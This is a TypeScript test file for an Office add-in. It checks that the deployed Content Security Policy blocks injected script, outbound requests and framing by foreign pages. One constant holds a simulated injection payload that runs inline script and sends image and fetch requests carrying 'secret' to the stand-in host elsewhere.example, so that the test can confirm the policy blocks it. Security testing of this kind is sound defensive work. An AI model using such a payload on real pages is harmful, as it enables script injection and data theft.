import { afterAll, beforeAll, describe, expect, test } from "@jest/globals";
import { readFileSync } from "node:fs";
import { join, resolve } from "node:path";
import type { Frame, Page } from "playwright-core";
import webpack, { type Configuration } from "webpack";
import { startWorkbench, type TestWorkbench } from "../../support/hosts/workbench";

const root = resolve(__dirname, "..", "..", "..");
const officeJs = join(root, "node_modules", "@microsoft", "office-js", "dist");
const CDN = "https://officeapis.public.onecdn.static.microsoft/1/";
const OLD_CDN = "https://appsforoffice.microsoft.com/lib/1/hosted/";

/** Builds the add-in into a folder of its own, as `npm run build -- --env office=…` does into dist. */
function build(folder: string, office: string): Promise<void> {
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  const { addinBuild } = require(join(root, "tools", "addin", "addin-build.cjs")) as {
    readonly addinBuild: (options: { folder: string; maps: string; office: string }) => Configuration;
  };
  return new Promise((done, fail) => {
    webpack(addinBuild({ folder, maps: `${folder}-maps`, office }), (error, stats) => {
      if (error !== null) fail(error);
      else if (stats?.hasErrors() === true) fail(new Error(stats.toString("errors-only")));
      else done();
    });
  });
}

/** Serves the add-in's files as a host that reads `_headers`, and Microsoft's CDN from the package. */
async function asDeployed(page: Page, folder: string): Promise<void> {
  const [, lines = ""] = /^\/\*\n((?: .*\n)+)/.exec(readFileSync(join(folder, "_headers"), "utf8")) ?? [];
  const headers = Object.fromEntries(
    lines
      .trim()
      .split("\n")
      .map((line) =>
        line
          .trim()
          .split(/: (.*)/)
          .slice(0, 2),
      ),
  );
  await page.route("**/addin/**", async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, headers: { ...response.headers(), ...headers } });
  });
  for (const cdn of [CDN, OLD_CDN])
    await page.route(`${cdn}**`, (route) =>
      route.fulfill({ path: join(officeJs, new URL(route.request().url().slice(cdn.length), "file:///").pathname) }),
    );
  await page.addInitScript({
    content: `globalThis.violations = [];
      document.addEventListener("securitypolicyviolation", (event) =>
        violations.push(event.effectiveDirective + ": " + event.blockedURI));`,
  });
}

const violations = (frame: Frame): Promise<string[]> => frame.evaluate("violations");

/** What a text that came through as markup would do; says whether its script ran. */
const SLIPPED_IN = `(async () => {
  const script = document.createElement("script");
  script.textContent = "document.title = 'ran'";
  document.head.append(script);
  const image = document.createElement("img");
  image.src = "https://elsewhere.example/?secret";
  await fetch("https://elsewhere.example/").catch(() => undefined);
  return document.title === "ran";
})()`;

const framed = (address: string): string => `(async () => {
  const frame = document.createElement("iframe");
  frame.src = ${JSON.stringify(address)};
  const loaded = new Promise((done) => frame.addEventListener("load", done));
  document.body.append(frame);
  await loaded;
})()`;

/** Looks at everything that is loaded late: findings, the page of a rule, a chart, a custom function. */
async function useEverything(bench: TestWorkbench): Promise<void> {
  const pane = await bench.addIn();
  await pane.getByRole("button", { name: "Prüfen", exact: true }).click();
  await pane
    .getByRole("button", { name: /^Regel erklärt/ })
    .first()
    .click();
  await pane.getByText("Was tun?").waitFor();
  await pane.getByRole("button", { name: "Zurück" }).click();
  await pane.getByRole("tab", { name: "Vergleichen" }).click();
  await pane.locator("canvas").first().waitFor();
  await bench.setCell("IKZ 2014", "M1", '=IKZ.ART("Interkommunal")');
  await bench.calculated();
  expect(await bench.cell("IKZ 2014", "M1")).toMatchObject({ value: "interkommunal" });
}

describe.each([
  ["office.js from Microsoft's CDN", "cdn", join(root, "dist", "addin"), CDN],
  ["office.js from Microsoft's former CDN", "old-cdn", join(root, ".cache", "addin-old-cdn"), OLD_CDN],
  ["office.js beside the page", "local", join(root, ".cache", "addin-local"), null],
])("the files as deployed, with %s", (_, office, folder, cdn) => {
  let bench: TestWorkbench;

  beforeAll(async () => {
    if (office !== "cdn") await build(folder, office);
    bench = await startWorkbench({ addIn: "product", files: folder, prepare: (page) => asDeployed(page, folder) });
  });
  afterAll(() => bench.close());

  test("work under their policy without a violation", async () => {
    await useEverything(bench);
    expect(await violations(await bench.addIn())).toEqual([]);
    expect(bench.consoleErrors.filter((text) => /Content Security Policy/i.test(text))).toEqual([]);
  });

  test("ask for nothing but their own origin and that of office.js", () => {
    const origins = new Set(bench.requests.filter((url) => url.startsWith("http")).map((url) => new URL(url).origin));
    const own = new URL(bench.url).origin;
    expect(origins).toEqual(new Set(cdn === null ? [own] : [own, new URL(cdn).origin]));
  });

  test("are kept by the policy from running what was slipped in, and from sending anything", async () => {
    const pane = await bench.addIn();
    const ran = await pane.evaluate<boolean>(SLIPPED_IN);
    expect(ran).toBe(false);
    expect(new Set((await violations(pane)).map((one) => one.split(":")[0]))).toEqual(
      new Set(["script-src-elem", "img-src", "connect-src"]),
    );
  });

  test("are not shown in a stranger's frame", async () => {
    const stranger = await bench.page.context().newPage();
    await asDeployed(stranger, folder);
    await stranger.route("https://stranger.example/", (route) =>
      route.fulfill({ contentType: "text/html", body: "…" }),
    );
    await stranger.goto("https://stranger.example/");
    const said: string[] = [];
    stranger.on("console", (message) => said.push(message.text()));
    await stranger.evaluate(framed(`${bench.url}/addin/taskpane.html`));
    expect(said.join("\n")).toContain("frame-ancestors");
    await stranger.close();
  });
});
